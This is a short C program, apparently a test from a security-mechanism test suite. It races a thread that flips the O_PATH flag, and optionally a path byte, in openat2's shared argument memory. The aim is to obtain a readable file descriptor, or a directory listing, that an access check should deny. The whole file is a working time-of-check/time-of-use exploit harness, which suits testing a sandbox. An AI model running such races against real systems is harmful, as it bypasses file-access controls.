/*
 * The flags of openat2(2) stand in memory: another thread flips them between O_PATH, which is let
 * through, and O_RDONLY, which would open.  Mode "path": the path is flipped, too.  Mode "list":
 * the directory above what is allowed, which may be passed and not listed.
 */
#include "attack.h"

static char path[4096];
static struct open_how how;

static void *flip_flags(void *unused)
{
	unsigned int state = 7;

	while (!over) {
		*(volatile uint64_t *)&how.flags ^= O_PATH;
		dawdle(&state);
	}
	return unused;
}

int main(int argc, char **argv)
{
	begin(argc, argv);
	snprintf(path, sizeof(path), is_mode("list") ? "%s" : "%s/a/key", directory);
	how.flags = O_RDONLY;
	if (!is_mode("list"))
		start(flip_byte, path + strlen(directory) + 1);
	start(flip_flags, NULL);
	for (tries = 0; tries < wanted; tries++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how));

		if (fd < 0)
			continue;
		if (!(fcntl(fd, F_GETFL) & O_PATH))
			won("a descriptor that reads");
		close(fd);
	}
	return finish();
}
